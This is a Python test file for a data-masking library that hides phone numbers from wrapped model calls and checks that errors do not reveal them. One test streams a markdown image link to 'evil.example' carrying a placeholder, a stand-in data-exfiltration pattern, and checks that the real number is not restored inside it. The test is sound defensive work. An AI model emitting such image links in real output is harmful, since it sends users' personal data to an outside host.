"""Calls of any callable through a real masker: what leaves, what comes back, and what an error shows."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from desensitize import Masker
from desensitize.errors import LeakError, UnsupportedPart

if TYPE_CHECKING:
    from collections.abc import Iterator

MASKER = Masker()
PHONE = "13800138000"


def test_dict_chunks_of_no_known_shape_share_the_url_they_stand_in() -> None:
    pieces = ["call <PHONE_1> ", "![](https://evil.example/?q=", "<PHONE_1>", ") <PHO", "NE_1> ", "PHONE_1"]

    def events(prompt: str, index: int) -> Iterator[dict[str, Any]]:
        assert PHONE not in prompt
        for number, piece in enumerate(pieces):
            yield {"type": "delta", "index": index, "sequence_number": number, "delta": {"text": piece}}
            yield {"type": "delta", "index": index + 1, "sequence_number": number, "delta": {"text": ") "}}

    stream = MASKER.wrap(events, mask_args=["prompt"])("手机 13800138000", index=0)
    texts = [chunk["delta"]["text"] for chunk in stream if chunk["index"] == 0]
    assert texts == ["call 13800138000 ", pieces[1], "<PHONE_1>", ") <PHO", "NE_1> ", "PHONE_1"]


def test_a_name_of_an_argument_that_holds_a_value_is_refused_without_it() -> None:
    def call(**body: object) -> None:
        raise AssertionError(body)

    with pytest.raises(UnsupportedPart) as caught:
        MASKER.wrap(call)(messages=[], **{"13800138000": 1})
    assert "13800138000" not in str(caught.value) + repr(caught.value.path)
    schema = {"type": "object", "properties": {"13800138000": {"type": b"x"}}}
    tools = [{"type": "function", "function": {"name": "f", "parameters": schema}}]
    with pytest.raises(UnsupportedPart) as caught:
        MASKER.wrap(call)(messages=[], tools=tools)
    assert "13800138000" not in str(caught.value) + repr(caught.value.path)


def test_a_leak_below_a_key_that_is_one_does_not_show_it() -> None:
    with MASKER.session() as s, pytest.raises(LeakError) as caught:
        s.prove([("metadata.13800138000.x", "13900139000", "")])
    assert "138001" not in str(caught.value) + repr(caught.value.places)
